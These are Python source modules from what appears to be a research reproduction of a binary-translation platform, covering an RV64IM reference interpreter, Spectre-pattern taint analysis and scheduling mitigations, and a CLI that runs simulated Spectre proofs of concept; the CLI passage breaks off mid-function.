