"""Functional reference interpreter (the correctness oracle).

Runs guest binaries with exact RV64IM semantics and no micro-architecture;
the DBT+VLIW platform must always reach the same architectural state.
"""

from .alu import OPERATIONS, apply
from .executor import (
    ExecutionError,
    GuestTrap,
    Interpreter,
    InterpreterConfig,
    RunResult,
    SYSCALL_EXIT,
    SYSCALL_WRITE,
    run_program,
)
from .memory import Memory, MemoryError_, PAGE_SIZE
from .state import ArchState, MASK64, sign_extend32, to_signed, to_unsigned

__all__ = [
    "ArchState",
    "ExecutionError",
    "GuestTrap",
    "Interpreter",
    "InterpreterConfig",
    "MASK64",
    "Memory",
    "MemoryError_",
    "OPERATIONS",
    "PAGE_SIZE",
    "RunResult",
    "SYSCALL_EXIT",
    "SYSCALL_WRITE",
    "apply",
    "run_program",
    "sign_extend32",
    "to_signed",
    "to_unsigned",
]
