"""Functional reference interpreter for guest programs.

Executes RV64IM guest binaries instruction-at-a-time with no timing model
beyond an instruction counter.  It is the correctness oracle for the DBT
platform: every kernel and attack binary is run here first and the final
memory / register image compared against the VLIW execution.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

from ..isa.decoding import decode
from ..isa.instruction import Instruction
from ..isa.opcodes import CSR_CYCLE, CSR_INSTRET, CSR_TIME, Mnemonic, SIGNED_LOADS
from ..isa.program import DEFAULT_STACK_TOP, Program
from .alu import apply as alu_apply
from .memory import Memory
from .state import ArchState, MASK64, to_signed

#: Linux-flavoured syscall numbers honoured by the ``ecall`` handler.
SYSCALL_EXIT = 93
SYSCALL_WRITE = 64


class ExecutionError(Exception):
    """Raised on invalid execution (bad fetch, unknown syscall...)."""


class GuestTrap(Exception):
    """Raised when the guest executes ``ebreak``."""


@dataclass
class RunResult:
    """Outcome of a completed interpreter run."""

    exit_code: int
    instructions: int
    cycles: int
    output: bytes = b""


@dataclass
class InterpreterConfig:
    """Tunables for the reference interpreter."""

    stack_top: int = DEFAULT_STACK_TOP
    #: Abort runs longer than this many instructions (guards against
    #: accidental infinite loops in tests).
    max_instructions: int = 50_000_000


class Interpreter:
    """Instruction-at-a-time functional executor."""

    def __init__(self, program: Program, config: Optional[InterpreterConfig] = None):
        self.program = program
        self.config = config or InterpreterConfig()
        self.memory = Memory()
        for base, image in program.segments():
            self.memory.load_image(base, image)
        self.state = ArchState(pc=program.entry)
        self.state.write(2, self.config.stack_top)  # sp
        self.exited = False
        self.exit_code = 0
        self.output = bytearray()
        self._decoded: Dict[int, Instruction] = {}

    # ------------------------------------------------------------------
    # Fetch / decode.
    # ------------------------------------------------------------------

    def _fetch(self, pc: int) -> Instruction:
        inst = self._decoded.get(pc)
        if inst is None:
            if pc % 4:
                raise ExecutionError("misaligned pc: %#x" % pc)
            word = self.memory.load_int(pc, 4)
            try:
                inst = decode(word, address=pc)
            except ValueError as exc:
                raise ExecutionError(
                    "cannot decode word %#010x at pc %#x: %s" % (word, pc, exc)
                ) from exc
            self._decoded[pc] = inst
        return inst

    # ------------------------------------------------------------------
    # Execution.
    # ------------------------------------------------------------------

    def step(self) -> None:
        """Execute one instruction."""
        if self.exited:
            raise ExecutionError("stepping an exited guest")
        state = self.state
        inst = self._fetch(state.pc)
        next_pc = state.pc + 4
        mnemonic = inst.mnemonic
        name = mnemonic.value

        if name in _ALU_REG_OPS:
            state.write(inst.rd, alu_apply(name, state.read(inst.rs1), state.read(inst.rs2)))
        elif mnemonic in _ALU_IMM_MAP:
            op = _ALU_IMM_MAP[mnemonic]
            state.write(inst.rd, alu_apply(op, state.read(inst.rs1), inst.imm & MASK64))
        elif inst.is_load:
            address = (state.read(inst.rs1) + inst.imm) & MASK64
            width = inst.access_width
            signed = mnemonic in SIGNED_LOADS
            value = self.memory.load_int(address, width, signed=signed)
            state.write(inst.rd, value & MASK64)
        elif inst.is_store:
            address = (state.read(inst.rs1) + inst.imm) & MASK64
            self.memory.store_int(address, state.read(inst.rs2), inst.access_width)
        elif mnemonic is Mnemonic.LUI:
            state.write(inst.rd, (inst.imm << 12) & MASK64)
        elif mnemonic is Mnemonic.AUIPC:
            state.write(inst.rd, (state.pc + (inst.imm << 12)) & MASK64)
        elif mnemonic is Mnemonic.JAL:
            state.write(inst.rd, next_pc)
            next_pc = (state.pc + inst.imm) & MASK64
        elif mnemonic is Mnemonic.JALR:
            target = (state.read(inst.rs1) + inst.imm) & MASK64 & ~1
            state.write(inst.rd, next_pc)
            next_pc = target
        elif inst.is_branch:
            if self._branch_taken(inst):
                next_pc = (state.pc + inst.imm) & MASK64
        elif mnemonic is Mnemonic.FENCE or mnemonic is Mnemonic.CFLUSH:
            pass  # No cache in the functional model.
        elif mnemonic is Mnemonic.ECALL:
            self._ecall()
        elif mnemonic is Mnemonic.EBREAK:
            raise GuestTrap("ebreak at pc %#x" % state.pc)
        elif mnemonic in (Mnemonic.CSRRW, Mnemonic.CSRRS, Mnemonic.CSRRC):
            state.write(inst.rd, self._read_csr(inst.imm))
        else:  # pragma: no cover - table covers the full ISA
            raise ExecutionError("unimplemented mnemonic: %s" % name)

        state.instret += 1
        state.cycles += 1
        if not self.exited:
            state.pc = next_pc

    def _branch_taken(self, inst: Instruction) -> bool:
        a = self.state.read(inst.rs1)
        b = self.state.read(inst.rs2)
        mnemonic = inst.mnemonic
        if mnemonic is Mnemonic.BEQ:
            return a == b
        if mnemonic is Mnemonic.BNE:
            return a != b
        if mnemonic is Mnemonic.BLT:
            return to_signed(a) < to_signed(b)
        if mnemonic is Mnemonic.BGE:
            return to_signed(a) >= to_signed(b)
        if mnemonic is Mnemonic.BLTU:
            return a < b
        return a >= b  # BGEU

    def _read_csr(self, csr: int) -> int:
        if csr in (CSR_CYCLE, CSR_TIME):
            return self.state.cycles & MASK64
        if csr == CSR_INSTRET:
            return self.state.instret & MASK64
        raise ExecutionError("unsupported CSR: %#x" % csr)

    def _ecall(self) -> None:
        number = self.state.read(17)  # a7
        if number == SYSCALL_EXIT:
            self.exited = True
            self.exit_code = to_signed(self.state.read(10), 32)
        elif number == SYSCALL_WRITE:
            address = self.state.read(11)  # a1
            length = self.state.read(12)  # a2
            self.output += self.memory.load_bytes(address, length)
            self.state.write(10, length)
        else:
            raise ExecutionError("unknown syscall: %d" % number)

    def run(self, max_instructions: Optional[int] = None) -> RunResult:
        """Run until the guest exits (or the instruction budget is hit)."""
        budget = max_instructions or self.config.max_instructions
        while not self.exited:
            if self.state.instret >= budget:
                raise ExecutionError(
                    "instruction budget exhausted (%d) at pc %#x"
                    % (budget, self.state.pc)
                )
            self.step()
        return RunResult(
            exit_code=self.exit_code,
            instructions=self.state.instret,
            cycles=self.state.cycles,
            output=bytes(self.output),
        )


#: R-type ops whose semantics live in the shared ALU table.
_ALU_REG_OPS = frozenset(op for op in (
    "add", "sub", "sll", "slt", "sltu", "xor", "srl", "sra", "or", "and",
    "addw", "subw", "sllw", "srlw", "sraw",
    "mul", "mulh", "mulhsu", "mulhu", "div", "divu", "rem", "remu",
    "mulw", "divw", "divuw", "remw", "remuw",
))

#: Immediate-form mnemonics -> ALU op name.
_ALU_IMM_MAP = {
    Mnemonic.ADDI: "add",
    Mnemonic.SLTI: "slt",
    Mnemonic.SLTIU: "sltu",
    Mnemonic.XORI: "xor",
    Mnemonic.ORI: "or",
    Mnemonic.ANDI: "and",
    Mnemonic.SLLI: "sll",
    Mnemonic.SRLI: "srl",
    Mnemonic.SRAI: "sra",
    Mnemonic.ADDIW: "addw",
    Mnemonic.SLLIW: "sllw",
    Mnemonic.SRLIW: "srlw",
    Mnemonic.SRAIW: "sraw",
}


def run_program(program: Program, **config_kwargs) -> RunResult:
    """One-shot convenience: interpret ``program`` to completion."""
    interpreter = Interpreter(program, InterpreterConfig(**config_kwargs) if config_kwargs else None)
    return interpreter.run()
