"""Architectural state of the guest: register file, PC, counters.

The state is deliberately minimal: 32 64-bit integer registers (x0
hardwired to zero), the program counter, and the cycle / retired
instruction counters exposed through the ``cycle`` / ``instret`` CSRs.
"""

from __future__ import annotations

from typing import List, Optional

from ..isa.registers import NUM_REGISTERS, register_name

MASK64 = (1 << 64) - 1


def to_signed(value: int, bits: int = 64) -> int:
    """Reinterpret an unsigned ``bits``-wide value as signed."""
    sign_bit = 1 << (bits - 1)
    value &= (1 << bits) - 1
    return value - (1 << bits) if value & sign_bit else value


def to_unsigned(value: int, bits: int = 64) -> int:
    """Truncate a Python int to an unsigned ``bits``-wide value."""
    return value & ((1 << bits) - 1)


def sign_extend32(value: int) -> int:
    """Sign-extend the low 32 bits of ``value`` to 64 bits (unsigned repr)."""
    return to_unsigned(to_signed(value, 32), 64)


class ArchState:
    """Guest-visible architectural state."""

    __slots__ = ("regs", "pc", "cycles", "instret")

    def __init__(self, pc: int = 0) -> None:
        self.regs: List[int] = [0] * NUM_REGISTERS
        self.pc = pc
        self.cycles = 0
        self.instret = 0

    def read(self, index: int) -> int:
        """Read register ``index`` (x0 always reads zero)."""
        return self.regs[index]

    def write(self, index: int, value: int) -> None:
        """Write register ``index``; writes to x0 are discarded."""
        if index != 0:
            self.regs[index] = value & MASK64

    def copy(self) -> "ArchState":
        """Snapshot for rollback / comparison."""
        clone = ArchState(self.pc)
        clone.regs = list(self.regs)
        clone.cycles = self.cycles
        clone.instret = self.instret
        return clone

    def same_registers(self, other: "ArchState") -> bool:
        """Whether the architectural registers match (counters ignored)."""
        return self.regs == other.regs

    def diff(self, other: "ArchState") -> List[str]:
        """Human-readable register differences against ``other``."""
        lines = []
        for index in range(NUM_REGISTERS):
            if self.regs[index] != other.regs[index]:
                lines.append(
                    "%s: %#x != %#x"
                    % (register_name(index), self.regs[index], other.regs[index])
                )
        if self.pc != other.pc:
            lines.append("pc: %#x != %#x" % (self.pc, other.pc))
        return lines

    def dump(self, limit: Optional[int] = None) -> str:
        """Pretty-print the register file."""
        count = NUM_REGISTERS if limit is None else limit
        return "\n".join(
            "%-5s = %#018x" % (register_name(i), self.regs[i]) for i in range(count)
        )
