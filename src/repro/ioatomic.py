"""Durable atomic file publication shared by every on-disk cache.

Several stores in this repository publish records that other processes
read (and rewrite) concurrently: the sweep memo cache and the resumable
checkpoint in :mod:`repro.platform.parallel`, and the persistent
codegen cache in :mod:`repro.dbt.translation_cache`.  They all need the
same two-step discipline:

* write the full payload to a **writer-unique** temp file in the target
  directory.  A fixed temp name (``<path>.tmp``) lets two concurrent
  writers interleave into one file and atomically rename a torn record
  into place — which then reads as "rot" forever and is quarantined,
  even though both writers held complete, valid payloads;
* ``fsync`` the temp file before ``os.replace`` so the rename can never
  publish a name whose data the kernel has not persisted.  A crash
  after the rename must leave either the old record or the complete new
  one, never a hole.

``os.replace`` itself is atomic on POSIX, so readers only ever observe
a complete old or complete new file; uniqueness of the temp name is
what extends that guarantee to concurrent writers.
"""

from __future__ import annotations

import itertools
import os
from pathlib import Path

__all__ = ["unique_tmp", "atomic_write_text"]

#: Per-process sequence number so one process re-publishing the same
#: path concurrently (threads, re-entrant compactions) still gets a
#: distinct temp file per call.
_TMP_COUNTER = itertools.count()


def unique_tmp(path: Path) -> Path:
    """A writer-unique sibling temp path for atomically replacing *path*.

    The name embeds the pid and a per-process counter, so no two live
    writers — across processes or within one — ever share a temp file.
    Stale ``*.tmp`` droppings from killed writers are inert: nothing
    ever reads or renames a temp file it did not itself create.
    """
    return path.with_name(
        "%s.%d.%d.tmp" % (path.name, os.getpid(), next(_TMP_COUNTER)))


def atomic_write_text(path: Path, text: str) -> None:
    """Durably publish *text* at *path* via a unique temp + ``os.replace``.

    The parent directory must already exist.  On any failure the temp
    file is removed (best effort) and the error re-raised; *path* is
    either untouched or fully replaced, never torn.
    """
    path = Path(path)
    tmp = unique_tmp(path)
    try:
        with open(tmp, "w", encoding="utf-8") as handle:
            handle.write(text)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp, path)
    except BaseException:
        try:
            tmp.unlink()
        except OSError:
            pass
        raise
