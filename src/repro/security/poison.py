"""Poisoning (taint) analysis for Spectre-pattern detection.

The paper's detection (Section IV-A) runs over one IR block and applies
three rules:

1. a *speculative* instruction generates a poisoned value — speculative
   means a load that may be moved above a conditional branch (trace
   speculation) or above a memory write (memory-dependency speculation);
2. an instruction using a poisoned operand generates a poisoned value;
3. a speculative memory instruction using a poisoned value as an
   *address* may leak through the cache side channel and is flagged, so
   the scheduler can be constrained.

Because the DBT engine only speculates inside one IR block, the analysis
is local and linear in the block size — the paper's key simplification
over whole-binary tools such as oo7.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Set, Tuple

from ..dbt.ir import DepKind, IRBlock, IRKind


@dataclass(frozen=True)
class FlaggedAccess:
    """One detected Spectre pattern: a potentially speculative memory
    access whose address derives from a speculatively loaded value."""

    #: Index of the flagged instruction within the IR block.
    index: int
    #: Guest address of the flagged instruction (diagnostics).
    guest_address: int
    #: Indices of the guards (branches/stores) it must stay behind.
    guards: Tuple[int, ...]
    #: The poisoned register used as the address.
    address_register: int


@dataclass
class PoisonReport:
    """Result of analysing one IR block."""

    entry: int
    #: Indices of instructions that may execute speculatively and thus
    #: generate poisoned values (rule 1 sources).
    speculative_sources: Tuple[int, ...] = ()
    #: All detected Spectre patterns (rule 3).
    flagged: Tuple[FlaggedAccess, ...] = ()
    #: Instruction index -> poisoned output, for DFG dumps (Figure 3).
    poisoned_outputs: Dict[int, bool] = field(default_factory=dict)

    @property
    def has_pattern(self) -> bool:
        return bool(self.flagged)

    @property
    def pattern_count(self) -> int:
        return len(self.flagged)


def _relaxable_guards(block: IRBlock,
                      branch_speculation: bool,
                      memory_speculation: bool) -> Dict[int, List[int]]:
    """For each instruction, the guards whose dependence the scheduler may
    relax: stores (MEM edges) and trace exits (CTRL edges)."""
    guards: Dict[int, List[int]] = {}
    for edge in block.dependences():
        if not edge.relaxable:
            continue
        if edge.kind is DepKind.MEM and not memory_speculation:
            continue
        if edge.kind is DepKind.CTRL and not branch_speculation:
            continue
        if edge.kind in (DepKind.MEM, DepKind.CTRL):
            guards.setdefault(edge.dst, []).append(edge.src)
    return guards


def analyze_block(
    block: IRBlock,
    branch_speculation: bool = True,
    memory_speculation: bool = True,
) -> PoisonReport:
    """Run the poisoning analysis over ``block``.

    Mirrors the paper's walk over the instructions of an IR block: track
    the set of poisoned registers, flag speculative memory accesses whose
    address register is poisoned.
    """
    guards = _relaxable_guards(block, branch_speculation, memory_speculation)
    poisoned: Set[int] = set()
    sources: List[int] = []
    flagged: List[FlaggedAccess] = []
    poisoned_outputs: Dict[int, bool] = {}

    for index, inst in enumerate(block.instructions):
        speculative = index in guards and bool(guards[index])

        # Rule 3: a (potentially) speculative memory access with a
        # poisoned address register leaks through the cache.
        if inst.is_memory and inst.src1 is not None and inst.src1 in poisoned:
            flagged.append(FlaggedAccess(
                index=index,
                guest_address=inst.guest_address or 0,
                guards=tuple(guards.get(index, ())),
                address_register=inst.src1,
            ))

        # Rules 1 and 2: compute the poison of this instruction's output.
        output_poisoned = False
        if inst.kind is IRKind.LOAD and speculative:
            output_poisoned = True
        if any(reg in poisoned for reg in inst.uses()):
            output_poisoned = True

        defined = inst.defines()
        if defined is not None:
            if output_poisoned:
                poisoned.add(defined)
            else:
                poisoned.discard(defined)
            poisoned_outputs[index] = output_poisoned
        if inst.kind is IRKind.LOAD and speculative:
            sources.append(index)

    return PoisonReport(
        entry=block.entry,
        speculative_sources=tuple(sources),
        flagged=tuple(flagged),
        poisoned_outputs=poisoned_outputs,
    )
