"""Schedule-constraining mitigations.

Both mitigations communicate with the scheduler purely through extra
``SPECTRE`` dependence edges on the IR block:

* :func:`apply_ghostbusters` — the paper's fine-grained countermeasure
  (Section IV-B): for every flagged access, insert a control dependency
  from each of its guards (the branch or store whose dependence the
  scheduler would have relaxed) to the access itself.  Only the risky
  instruction is constrained; everything else still speculates.
* :func:`apply_fence` — the comparison point of Section V-B: a fence at
  the detected pattern.  A fence stalls instruction fetch until all
  in-flight speculation commits, which at schedule level means nothing
  crosses the flagged instruction in either direction.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..dbt.ir import IRBlock
from .poison import PoisonReport


@dataclass(frozen=True)
class MitigationResult:
    """What a mitigation pass did to a block."""

    policy: str
    patterns: int
    edges_added: int

    @property
    def applied(self) -> bool:
        return self.edges_added > 0


def apply_ghostbusters(block: IRBlock, report: PoisonReport) -> MitigationResult:
    """Pin each flagged access behind its guards (fine-grained)."""
    edges = 0
    for access in report.flagged:
        for guard in access.guards:
            block.add_spectre_dependence(guard, access.index)
            edges += 1
    return MitigationResult(
        policy="ghostbusters", patterns=report.pattern_count, edges_added=edges,
    )


def apply_fence(block: IRBlock, report: PoisonReport) -> MitigationResult:
    """Serialise the schedule at each flagged access (coarse-grained).

    Equivalent to inserting a fence immediately before the access: no
    instruction may move from one side of the access to the other.
    """
    edges = 0
    size = len(block.instructions)
    for access in report.flagged:
        for before in range(access.index):
            block.add_spectre_dependence(before, access.index)
            edges += 1
        for after in range(access.index + 1, size):
            block.add_spectre_dependence(access.index, after)
            edges += 1
    return MitigationResult(
        policy="fence", patterns=report.pattern_count, edges_added=edges,
    )
