"""GhostBusters: Spectre-pattern detection and mitigation (the paper's
core contribution).

``poison`` implements the taint analysis over IR blocks, ``mitigation``
turns its findings into scheduling constraints, ``policy`` enumerates the
four configurations of the paper's evaluation.
"""

from .mitigation import MitigationResult, apply_fence, apply_ghostbusters
from .poison import FlaggedAccess, PoisonReport, analyze_block
from .policy import ALL_POLICIES, MitigationPolicy

__all__ = [
    "ALL_POLICIES",
    "FlaggedAccess",
    "MitigationPolicy",
    "MitigationResult",
    "PoisonReport",
    "analyze_block",
    "apply_fence",
    "apply_ghostbusters",
]
