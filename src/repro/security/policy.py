"""Mitigation policies evaluated by the paper.

The four configurations of Section V:

* ``UNSAFE`` — full speculation, no countermeasure (the baseline of
  Figure 4);
* ``GHOSTBUSTERS`` — the paper's contribution: poison analysis plus
  fine-grained control dependencies on exactly the flagged accesses
  ("our approach" in Figure 4);
* ``FENCE`` — poison analysis plus a full serialisation (fence) at each
  detected pattern (the third experiment of Section V-B);
* ``NO_SPECULATION`` — both speculation mechanisms turned off in the
  DBT engine (the naive countermeasure, ~16% slower on average).
"""

from __future__ import annotations

import enum


class MitigationPolicy(enum.Enum):
    """Countermeasure configuration of the DBT engine."""

    UNSAFE = "unsafe"
    GHOSTBUSTERS = "ghostbusters"
    FENCE = "fence"
    NO_SPECULATION = "no_speculation"

    @property
    def speculation_enabled(self) -> bool:
        """Whether the scheduler may speculate at all."""
        return self is not MitigationPolicy.NO_SPECULATION

    @property
    def analyzes_patterns(self) -> bool:
        """Whether the poison analysis runs before scheduling."""
        return self in (MitigationPolicy.GHOSTBUSTERS, MitigationPolicy.FENCE)

    @property
    def label(self) -> str:
        """Display name used by the benchmark harnesses."""
        return _LABELS[self]


_LABELS = {
    MitigationPolicy.UNSAFE: "unsafe",
    MitigationPolicy.GHOSTBUSTERS: "our approach",
    MitigationPolicy.FENCE: "fence on detection",
    MitigationPolicy.NO_SPECULATION: "no speculation",
}

ALL_POLICIES = (
    MitigationPolicy.UNSAFE,
    MitigationPolicy.GHOSTBUSTERS,
    MitigationPolicy.FENCE,
    MitigationPolicy.NO_SPECULATION,
)
