"""Command-line interface: ``python -m repro`` or the ``repro`` script.

Subcommands
-----------

``asm FILE.s -o FILE.bin``
    Assemble to a flat binary container (loadable by every other
    subcommand).

``run FILE.s``
    Assemble and execute a guest program on the DBT platform (or the
    reference interpreter with ``--interp``), printing exit code, output
    and statistics.

``dis FILE.s``
    Assemble and print the disassembly listing (round-trip check).

``trace FILE.s``
    Run the program, then dump every optimized superblock schedule the
    DBT engine produced (one bundle per line, ``ld.spec``/hidden
    registers visible).

``attack {v1,v4}``
    Run a Spectre proof-of-concept under one or all mitigation policies.

``sweep``
    Quick Figure-4 style sweep over the (reduced-size) Polybench suite
    (``--json``/``--csv`` for machine-readable output, ``--jobs N`` to
    fan the grid out over worker processes, ``--cache-dir`` to memoize
    sweep points on disk).

``bench-host``
    Measure the simulator's own host throughput: reference vs fast-path
    vs tier-3 compiled interpreter (± block chaining) on the E1 attack
    matrix and Polybench kernels, a cold/warm persistent-codegen-cache
    pair, and sweep wall-time at several ``--jobs`` levels.  Writes
    ``BENCH_host.json`` (see docs/PERFORMANCE.md).

``stats``
    Run a guest (or a Spectre PoC via ``--attack``) under each policy
    with the observability layer attached and print a per-policy cycle
    attribution table (stalls vs rollbacks vs pinned loads, plus the
    tier mix: chained dispatches and compiled-tier hits).  ``--attack``
    adds the leakage-meter table.  See docs/OBSERVABILITY.md.

``profile``
    Host-time profile of one workload: wall seconds attributed to
    translation / scheduling / codegen / interpreter tiers /
    chain-dispatch / supervisor / tcache-IO, per-block hotness, and
    (``--amortize``) the compile-cost amortization table that says
    which blocks pay back their tier-3 compile.  See
    docs/PERFORMANCE.md.

``chaos``
    Run the resilience fault matrix: every named fault site injected
    (seed-deterministic), detected, recovered, and the recovered run
    verified bit-identical to a fault-free reference.  Exits nonzero if
    any cell fails — CI gates on ``repro chaos --seed 0``.  See
    docs/RESILIENCE.md.

``serve`` / ``submit`` / ``jobs``
    The simulation service: ``serve`` runs a daemon owning a warm
    worker fleet and a crash-safe job journal, listening on a local
    socket (``--socket PATH`` or ``--port N``); ``submit`` sends a
    run/sweep/attack/chaos job (JSON payload) and optionally waits for
    its result; ``jobs`` lists the queue.  SIGTERM drains gracefully —
    in-flight jobs finish, the queue survives in the journal.  See
    docs/RESILIENCE.md for the failure model.
"""

from __future__ import annotations

import argparse
import sys
import tempfile
from typing import List, Optional

from .attacks.harness import AttackVariant, run_attack
from .interp.executor import run_program
from .isa.assembler import assemble
from .isa.disassembler import dump
from .platform.comparison import slowdown_table
from .dbt.engine import DbtEngineConfig
from .platform.system import DbtSystem
from .security.policy import ALL_POLICIES, MitigationPolicy
from .vliw.config import VliwConfig, wide_config


def _policy(name: str) -> MitigationPolicy:
    try:
        return MitigationPolicy(name)
    except ValueError:
        raise argparse.ArgumentTypeError(
            "unknown policy %r (choose from %s)"
            % (name, ", ".join(p.value for p in MitigationPolicy))
        )


def _vliw_config(args) -> Optional[VliwConfig]:
    if getattr(args, "wide", None):
        return wide_config(args.wide)
    return None


def _read_source(path: str) -> str:
    if path == "-":
        return sys.stdin.read()
    with open(path) as handle:
        return handle.read()


def _load_guest(path: str):
    """Load a guest program: assembly text or a ``RPRO`` container."""
    from .isa.container import from_bytes, is_container

    if path != "-":
        with open(path, "rb") as handle:
            raw = handle.read()
        if is_container(raw):
            return from_bytes(raw)
        return assemble(raw.decode("utf-8"))
    return assemble(_read_source(path))


# ---------------------------------------------------------------------------
# Subcommands.
# ---------------------------------------------------------------------------

def cmd_asm(args) -> int:
    from .isa.container import save_program

    program = assemble(_read_source(args.file))
    save_program(program, args.output)
    print("wrote %s: %d text bytes, %d data bytes, %d symbols" % (
        args.output, len(program.text), len(program.data),
        len(program.symbols),
    ))
    return 0


def _make_observer(args):
    """Observer for ``repro run``'s export flags (None when unused)."""
    wants_trace = getattr(args, "trace_out", None)
    wants_metrics = (getattr(args, "metrics_out", None)
                     or getattr(args, "prom_out", None))
    if not wants_trace and not wants_metrics:
        return None
    from .obs import Observer, Tracer

    tracer = Tracer(limit=args.trace_limit) if wants_trace else None
    return Observer(tracer=tracer)


def _write_text(path: str, text: str) -> None:
    if path == "-":
        sys.stdout.write(text)
        if not text.endswith("\n"):
            sys.stdout.write("\n")
        return
    with open(path, "w") as handle:
        handle.write(text)


def _telemetry_wanted(args) -> bool:
    return bool(getattr(args, "metrics_out", None)
                or getattr(args, "prom_out", None)
                or getattr(args, "trace_out", None))


def _telemetry_config(args, spool_dir: str):
    """Per-point telemetry template for the cross-process pipeline."""
    from .obs import TelemetryConfig

    return TelemetryConfig(spool_dir=spool_dir,
                           trace=bool(args.trace_out),
                           trace_limit=args.trace_limit)


def _report_telemetry(args, spool_dir: str, pool=None) -> None:
    """Merge the spool and write the requested exports.

    ``pool`` (optional) exports the translation pool's
    ``dbt.pool.{guests,installs,hits}`` counters alongside the merged
    per-point metrics.  Under per-point telemetry the observer gate
    disables artifact sharing, so ``hits``/``installs`` read zero while
    ``guests`` still counts the systems the gate excluded — the
    counters make the gate itself observable.
    """
    from .obs import merge_spool

    merged = merge_spool(spool_dir)
    if pool is not None:
        pool.publish(merged.registry)
    if args.metrics_out:
        _write_text(args.metrics_out, merged.registry.to_json() + "\n")
        if args.metrics_out != "-":
            print("metrics   : wrote %s (%d metrics)"
                  % (args.metrics_out, len(merged.registry)), file=sys.stderr)
    if args.prom_out:
        _write_text(args.prom_out, merged.registry.to_prometheus())
        if args.prom_out != "-":
            print("metrics   : wrote %s (Prometheus text)" % args.prom_out,
                  file=sys.stderr)
    if args.trace_out:
        merged.write_chrome(args.trace_out)
        print("trace     : wrote %s (one track per worker)" % args.trace_out,
              file=sys.stderr)
    print("telemetry : merged %s" % merged.summary(), file=sys.stderr)


def _engine_config(args) -> Optional[DbtEngineConfig]:
    """Engine config from the shared --chain/--cache-*/--tier flags, or
    None when every flag is at its default (the seed configuration)."""
    chain = getattr(args, "chain", False)
    cache_policy = getattr(args, "cache_policy", "flush")
    cache_capacity = getattr(args, "cache_capacity", None)
    tier_mode = getattr(args, "tier", "eager")
    if (not chain and cache_policy == "flush" and cache_capacity is None
            and tier_mode == "eager"):
        return None
    return DbtEngineConfig(chain=chain, code_cache_policy=cache_policy,
                           code_cache_capacity=cache_capacity,
                           tier_mode=tier_mode)


def cmd_run(args) -> int:
    program = _load_guest(args.file)
    if args.interp:
        result = run_program(program)
        print("exit code : %d" % result.exit_code)
        print("instret   : %d" % result.instructions)
        if result.output:
            print("output    : %r" % result.output)
        return 0
    observer = _make_observer(args)
    supervisor = None
    if args.supervise:
        from .resilience import ExecutionSupervisor

        supervisor = ExecutionSupervisor(observer=observer)
    profiler = None
    if args.profile_out:
        from .obs import HostProfiler

        profiler = HostProfiler()
    system = DbtSystem(program, policy=args.policy,
                       vliw_config=_vliw_config(args),
                       engine_config=_engine_config(args), observer=observer,
                       supervisor=supervisor, interpreter=args.interpreter,
                       tcache_dir=args.tcache_dir, profiler=profiler)
    result = system.run()
    if profiler is not None:
        from .obs.profiler import write_profile

        profiler.detach()
        write_profile(profiler.report({"policy": args.policy.value,
                                       "interpreter": system.interpreter,
                                       "workload": args.file}),
                      args.profile_out)
        print("profile   : wrote %s (%.3fs host time attributed)"
              % (args.profile_out, profiler.total_seconds), file=sys.stderr)
    print("exit code : %d" % result.exit_code)
    if result.output:
        print("output    : %r" % result.output)
    if args.stats:
        print(result.summary())
    else:
        print("cycles    : %d" % result.cycles)
    if observer is not None:
        if args.trace_out:
            tracer = observer.tracer
            tracer.write(args.trace_out)
            print("trace     : wrote %s (%d spans, %d events%s)" % (
                args.trace_out, len(tracer.spans), len(tracer.instants),
                ", %d dropped" % tracer.dropped if tracer.dropped else ""))
        if args.metrics_out:
            _write_text(args.metrics_out, observer.registry.to_json() + "\n")
            if args.metrics_out != "-":
                print("metrics   : wrote %s (%d metrics)"
                      % (args.metrics_out, len(observer.registry)))
        if args.prom_out:
            _write_text(args.prom_out, observer.registry.to_prometheus())
            if args.prom_out != "-":
                print("metrics   : wrote %s (Prometheus text)" % args.prom_out)
    if supervisor is not None:
        print("supervisor:")
        for line in supervisor.stats.summary().splitlines():
            print("  " + line)
    return 0


def cmd_dis(args) -> int:
    program = _load_guest(args.file)
    print(dump(program))
    return 0


def cmd_trace(args) -> int:
    program = _load_guest(args.file)
    system = DbtSystem(program, policy=args.policy,
                       vliw_config=_vliw_config(args))
    system.run()
    shown = 0
    for block in system.engine.cache.blocks():
        if block.kind == "firstpass" and not args.all:
            continue
        print(block.describe())
        report = system.engine.reports.get(block.guest_entry)
        if report is not None and report.has_pattern:
            print("  ! %d Spectre pattern(s) detected in this block"
                  % report.pattern_count)
        print()
        shown += 1
    if not shown:
        print("(no optimized blocks; try --all for first-pass translations)")
    return 0


def _print_run_failures(error) -> None:
    from .platform.parallel import failure_table

    print("error: %s" % error, file=sys.stderr)
    print(failure_table(error.failures), file=sys.stderr)


def cmd_attack(args) -> int:
    from .attacks.harness import attack_matrix
    from .platform.parallel import ParallelRunError

    variant = (AttackVariant.SPECTRE_V1 if args.variant == "v1"
               else AttackVariant.SPECTRE_V4)
    secret = args.secret.encode()
    policies = [args.policy] if args.policy else list(ALL_POLICIES)
    engine_config = _engine_config(args)
    measure = args.leakage
    spool = None
    point_telemetry = None
    if _telemetry_wanted(args):
        spool = tempfile.TemporaryDirectory(prefix="repro-telemetry-")
        point_telemetry = _telemetry_config(args, spool.name)
    try:
        if args.jobs > 1 and len(policies) > 1:
            try:
                matrix = attack_matrix(secret=secret, policies=policies,
                                       variants=(variant,), jobs=args.jobs,
                                       engine_config=engine_config,
                                       interpreter=args.interpreter,
                                       timeout=args.timeout,
                                       retries=args.retries,
                                       tcache_dir=args.tcache_dir,
                                       measure=measure,
                                       point_telemetry=point_telemetry)
            except ParallelRunError as error:
                _print_run_failures(error)
                return 1
            results = [matrix[variant][policy] for policy in policies]
        else:
            results = []
            for policy in policies:
                cell = None
                if point_telemetry is not None:
                    cell = point_telemetry.with_point(
                        "%s/%s" % (variant.value, policy.value),
                        variant=variant.value, policy=policy.value)
                results.append(run_attack(variant, policy, secret=secret,
                                          engine_config=engine_config,
                                          interpreter=args.interpreter,
                                          tcache_dir=args.tcache_dir,
                                          measure=measure, telemetry=cell))
        leaked_anywhere = False
        for result in results:
            print(result.describe()
                  + "  recovered=%r" % bytes(result.recovered))
            if measure and result.leakage is not None:
                print("  leakage: %s" % result.leakage.describe())
            leaked_anywhere |= result.leaked
        if measure:
            from .obs import leakage_table

            print()
            print(leakage_table([r.leakage for r in results
                                 if r.leakage is not None]))
        if spool is not None:
